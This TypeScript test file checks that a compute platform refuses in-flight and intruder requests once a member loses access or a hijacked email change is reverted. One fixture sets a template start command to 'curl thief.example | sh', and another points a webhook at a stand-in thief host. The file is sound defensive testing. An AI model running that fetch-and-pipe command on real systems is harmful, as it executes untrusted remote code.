import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { db, transaction, type Tx } from "~/platform/db.server";
import { changePassword } from "~/accounts/inside/change-password.server";
import { rotateKey } from "~/accounts/inside/api-keys/change-key.server";
import { makeNamedKey } from "~/accounts/inside/api-keys/create-key.server";
import { beginDeviceLogin } from "~/accounts/inside/device-login/begin-device-login.server";
import { decideDeviceLogin } from "~/accounts/inside/device-login/decide-device-login.server";
import { askEmailChange } from "~/accounts/inside/email-change/ask-email-change.server";
import { confirmEmailChange } from "~/accounts/inside/email-change/confirm-email-change.server";
import { revertEmailChange } from "~/accounts/inside/email-change/revert-email-change.server";
import { linkIdentity } from "~/accounts/link-identity.server";
import { keepPendingLogin } from "~/accounts/pending-login.server";
import { updateProfile } from "~/accounts/inside/profile/update-profile.server";
import { changeRole, leaveTeam, removeMember, setMemberLimit } from "~/accounts/inside/teams/change-member.server";
import { invite } from "~/accounts/inside/teams/invite.server";
import { confirmTwoFactor } from "~/accounts/two-factor.server";
import { addEndpoint, changeEndpoint, rotateSecret } from "~/accounts/inside/endpoints/change-endpoints.server";
import type { Cents } from "~/money/units";
import { M } from "~/messages";
import { switchOnAutoTopUp } from "~/payments/inside/auto-top-up/change-auto-top-up.server";
import { changeTemplate, createTemplate, deleteTemplate } from "~/compute/change-template.server";
import { createVolume } from "~/compute/inside/volumes/create-volume.server";
import { deleteVolume, growVolume } from "~/compute/inside/volumes/change-volume.server";
import { changeOwnEnd } from "~/compute/inside/tasks/change-own-end.server";
import { describeTask } from "~/compute/inside/tasks/describe-task.server";
import { deleteTask } from "~/compute/delete-task.server";
import { revokeTaskAccess } from "~/compute/revoke-task-access.server";
import { endLentAccess } from "~/accounts/end-member-access.server";
import { endAccount } from "~/staff/inside/end-account.server";
import { suspendUser } from "~/staff/inside/suspend-user.server";
import { parseSshPublicKey } from "~/compute/ssh-public-key.server";
import { deleteSshKey } from "~/compute/delete-ssh-key.server";
import { putSshKey, storeSshKey } from "~/compute/store-ssh-key.server";
import { closeTaskPort, openTaskPort, readPortToken, renewPortToken } from "~/compute/inside/ports/task-ports.server";
import { seedTemplates } from "../../../../prisma/seed-templates";
import { aKeepingNode, aVolume } from "../../../compute/database/volumes/a-volume";
import { aSession } from "../../../contract/support/people";
import { emptyCapacity } from "../../../compute/database/capacity/reserving";
import { tokenTo } from "../../../staff/database/users/mails";
import { lockWaits } from "../../../support/lock-waits";
import { anEd25519Line } from "../../../support/ssh-key";
import { until } from "../../../support/until";
import {
  asAdmin,
  aTask,
  aTeamAgain,
  leaver,
  leaversKey,
  managed,
  now,
  opensBy,
  owner,
  ownersKey,
  requestId,
  team,
} from "./leaving-world";
import { inSession } from "../in-session";

let counter = 0;
beforeEach(aTeamAgain);
afterEach(emptyCapacity);

const hook = { url: "https://hooks.example/x", description: "", eventTypes: ["task.ended"] };
const key = { name: "k", scopes: ["tasks" as const], networks: [], expiresAt: null };

/** Requests that hand out access to the team, by name: prepared before their sender loses the right, sent after. */
const ASKED: Record<string, () => Promise<() => Promise<unknown>>> = {
  "an SSH key": async () => () => storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now }),
  "the end of a colleague's SSH key": async () => {
    const { id } = await storeSshKey({ ...team(owner), sshPublicKey: anEd25519Line(), now });
    return () => deleteSshKey({ ...team(leaver), memberRole: "admin", id });
  },
  "an API key": async () => () => makeNamedKey({ ...team(leaver), key }),
  "an API key in place of theirs": async () => {
    const { id } = await makeNamedKey({ ...team(leaver), key, now: new Date(now.getTime() - 60_000) });
    return () => rotateKey({ ...team(leaver), id, overlapHours: 0 });
  },
  "a login of a command line": async () => {
    const { userCode } = await beginDeviceLogin({ clientName: "x", ip: "127.0.0.1", network: "127.0.0.1", now });
    const { sessionId } = await aSession(leaver.userId, now);
    return () => decideDeviceLogin({ ...team(leaver), sessionId, typed: userCode, allow: true });
  },
  "an endpoint with its secret": async () => () => addEndpoint(team(leaver), hook),
  "the next secret of an endpoint": async () => {
    const { endpointId } = await addEndpoint(team(owner), hook);
    return () => rotateSecret(team(leaver), { endpointId });
  },
  "another address for an endpoint": async () => {
    const { endpointId } = await addEndpoint(team(owner), hook);
    return () => changeEndpoint(team(leaver), { endpointId, url: "https://thief.example/x" });
  },
  "the token of ports": async () => {
    const resvGuid = await aTask(owner);
    await openTaskPort({ ...team(owner), resvGuid, port: 8888 });
    return () => readPortToken({ ...team(leaver), resvGuid });
  },
  "a new token of ports": async () => {
    const resvGuid = await aTask(owner);
    return () => renewPortToken({ ...team(leaver), resvGuid });
  },
  "an open port": async () => {
    const resvGuid = await aTask(owner);
    return () => openTaskPort({ ...team(leaver), resvGuid, port: 8888 });
  },
  "the end of a port": async () => {
    const resvGuid = await aTask(owner);
    return () => closeTaskPort({ ...team(leaver), resvGuid, port: 8888 });
  },
  "a task's tags": async () => {
    const resvGuid = await aTask(owner);
    return () => describeTask({ ...team(leaver), resvGuid, tags: ["x"] });
  },
  "a template": async () => {
    await seedTemplates({ now });
    return () => createTemplate(team(leaver), { name: `t${(counter += 1)}`, image: "pytorch" } as never);
  },
  "another command for a template": async () => {
    await seedTemplates({ now });
    const named = await createTemplate(team(owner), { name: `t${(counter += 1)}`, image: "pytorch" } as never);
    return () => changeTemplate({ ...team(leaver), named }, { start_command: "curl thief.example | sh" } as never);
  },
  "a template's end": async () => {
    await seedTemplates({ now });
    const named = await createTemplate(team(owner), { name: `t${(counter += 1)}`, image: "pytorch" } as never);
    return () => deleteTemplate({ ...team(leaver), named });
  },
  "a volume": async () => {
    await aKeepingNode({ now });
    return () => createVolume(team(leaver), { name: "theirs", gb: 100, clusterName: "fra1" });
  },
  "a larger volume": async () => {
    await aKeepingNode({ now });
    const volumeId = await aVolume({ ...team(owner), gb: 10, name: `v${(counter += 1)}` });
    return () => growVolume({ ...team(leaver), volumeId, gb: 100 });
  },
  "a volume's end": async () => {
    await aKeepingNode({ now });
    const volumeId = await aVolume({ ...team(owner), gb: 10, name: `v${(counter += 1)}` });
    return () => deleteVolume({ ...team(leaver), volumeId });
  },
  "a longer task": async () => {
    const resvGuid = await aTask(owner);
    return () => changeOwnEnd({ ...team(leaver), resvGuid, maxSeconds: 0, maxCents: 0 });
  },
  "a task's end": async () => {
    const resvGuid = await aTask(owner);
    return () => deleteTask({ actor: { ...team(leaver), staffRights: [] }, resvGuid, now });
  },
  "automatic top-up": async () => {
    await db.query(
      `insert into card (pm_id, tenant_id, brand, last4, exp_month, exp_year, is_default, added_at, user_id)
       values ($1, $2, 'visa', '4242', 12, 2034, true, now(), $3)`,
      [`pm_owners${(counter += 1)}`, owner.tenantId, owner.userId],
    );
    const amounts = { thresholdCents: 1_000n as Cents, cents: 5_000n as Cents, monthCapCents: 50_000n as Cents };
    return () => switchOnAutoTopUp({ ...team(leaver), ...amounts });
  },
  "another address on the team's invoices": async () => () =>
    updateProfile({
      viewer: { ...team(leaver), email: leaver.email, memberRole: "admin" },
      fields: { city: "Elsewhere" },
      now,
    }),
  "an invitation": async () => () =>
    invite({ ...team(leaver), email: `friend${(counter += 1)}@people.example`, role: "member" }),
};

const ENDS: Record<string, () => Promise<unknown>> = {
  removed: () => removeMember(managed()),
  "made a viewer": () => changeRole({ ...managed(), role: "viewer" }),
  suspended: () => suspendUser({ ...asAdmin(), reason: "test" }),
  // With a reverted address the role stays: requests from before it come from the thief.
  "taken back": async () => {
    const newEmail = `thief${(counter += 1)}@people.example`;
    const at = (seconds: number) => new Date(now.getTime() + seconds * 1000);
    await inSession(askEmailChange, { userId: leaver.userId, newEmail, requestId, now: at(-3) });
    await confirmEmailChange({ token: await tokenTo(newEmail, "email-change"), requestId, now: at(-2) });
    await revertEmailChange({ token: await tokenTo(leaver.email, "email-change"), requestId, now: at(1) });
  },
};

describe.each(Object.entries(ENDS))("A request in flight while its sender was %s gets", (_end, end) => {
  it.each(Object.entries(ASKED))("not %s", async (_what, prepare) => {
    const ask = await prepare();
    await end();
    await expect(ask()).rejects.toMatchObject({ name: "Refusal" });
  });
});

/** Ways to stay in the account itself: a thief requests each before the address is reverted, and completes it after. */
const THIEFS: Record<string, (session: { userId: number; sessionId: string }) => Promise<unknown>> = {
  "a linked account": (session) => {
    const of = { provider: "google", issuer: "https://id.example", subject: `s${(counter += 1)}` };
    const proven = { ...of, email: "t@people.example" };
    return linkIdentity({ ...session, proven: proven as never, label: "x", requestId, now });
  },
  "a two-factor": (session) => confirmTwoFactor({ ...session, code: "123456", now }),
  "the next change of the address": (session) =>
    askEmailChange({ ...session, newEmail: `next${(counter += 1)}@people.example`, requestId, now }),
  "another role for a friend": () => changeRole({ ...team(leaver), memberId: owner.userId, role: "viewer" }),
  "a limit for a member": () => setMemberLimit({ ...team(leaver), memberId: owner.userId, limitCents: 100 }),
};

it.each(Object.entries(THIEFS))(
  "An intruder's request does not get %s once the change of address is reverted",
  async (_what, ask) => {
    const { sessionId } = await aSession(leaver.userId, now);
    await ENDS["taken back"]?.();
    await expect(ask({ userId: leaver.userId, sessionId })).rejects.toThrow(M.notAllowed);
  },
);

it("An intruder's login by a provider waits for no code once the change of address is reverted", async () => {
  await ENDS["taken back"]?.();
  const asked = { visitorId: `thief${(counter += 1)}`, userId: leaver.userId, remember: false, redirectTo: "/", now };
  await expect(keepPendingLogin({ ...asked, loginEpoch: 0 })).rejects.toThrow(M.wrongCredentials);
});

it("An intruder's request sets no password in a session that has ended", async () => {
  const { sessionId } = await aSession(leaver.userId, now);
  const viewer = { userId: leaver.userId, email: leaver.email, sessionId, loginAt: now };
  const password = "thief-of-green-hats";
  const fields = { email: "", password, password_confirmation: password, current_password: "" };
  await ENDS["taken back"]?.();
  await expect(changePassword({ viewer, fields, now })).rejects.toThrow(M.notAllowed);
  expect(await db.query(`select password_hash as hash from user_account where id = $1`, [leaver.userId])).toEqual([
    { hash: null },
  ]);
});

it("Closing an account while its key is stored leaves no key in a keyless task", async () => {
  await db.query(`delete from ssh_key where tenant_id = $1`, [owner.tenantId]);
  await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  const id = await aTask(leaver);
  await db.query(`update task set ssh_public_key = '', ssh_key_user_id = null where resv_guid = $1`, [id]);
  await db.query(`delete from ssh_key where tenant_id = $1`, [owner.tenantId]);
  let closed: Promise<unknown> = Promise.resolve();
  const stored = transaction(async (tx) => {
    await putSshKey(tx, { ...team(leaver), key: parseSshPublicKey(leaversKey), now });
    closed = transaction(async (other) => {
      await other.query(`select from user_account where id = $1 for update`, [leaver.userId]);
      await endAccount(other, { userId: leaver.userId, tenantIds: [leaver.tenantId], requestId: "", now });
    });
    await new Promise((resolve) => setTimeout(resolve, 500));
  });
  await stored;
  await closed;
  expect(await db.query(`select from ssh_key where user_id = $1`, [leaver.userId])).toHaveLength(0);
  expect(await db.query(`select ssh_public_key as key from task where resv_guid = $1`, [id])).toEqual([{ key: "" }]);
});

it("An intruder's key that is taken back while a leaver's task gets it opens nothing", async () => {
  await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  const resvGuid = await aTask(leaver);
  let leaving: Promise<void> | undefined;
  await transaction(async (tx) => {
    await tx.query(`select from user_account where id = $1 for update`, [owner.userId]);
    await endLentAccess(tx, { userId: owner.userId, since: new Date(0), now });
    let left = false;
    leaving = leaveTeam(team(leaver)).finally(() => (left = true));
    await until("the leaver to wait or to have left", async () => left || (await lockWaits()) > 0);
  });
  await leaving;
  expect(await opensBy(resvGuid)).toBe("");
});

it.each(["stored first", "removed first"])(
  "An owner's first key opens the task of a member who is removed at that moment: %s",
  async (order) => {
    await db.query(`delete from ssh_key where user_id = $1`, [owner.userId]);
    await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
    const resvGuid = await aTask(leaver);
    const store = (tx: Tx) => putSshKey(tx, { ...team(owner), key: parseSshPublicKey(ownersKey) });
    const remove = async (tx: Tx) => {
      await tx.query(`delete from member where tenant_id = $1 and user_id = $2`, [owner.tenantId, leaver.userId]);
      await revokeTaskAccess(tx, { userId: leaver.userId, tenantIds: [owner.tenantId], now });
    };
    const [first, second] = order === "stored first" ? [store, remove] : [remove, store];
    let later: Promise<unknown> | undefined;
    await transaction(async (tx) => {
      await first(tx);
      let ended = false;
      later = transaction<unknown>(second).finally(() => (ended = true));
      await until("the other to wait or to have ended", async () => ended || (await lockWaits()) > 0);
    });
    await later;
    expect(await opensBy(resvGuid)).toBe(ownersKey);
  },
);
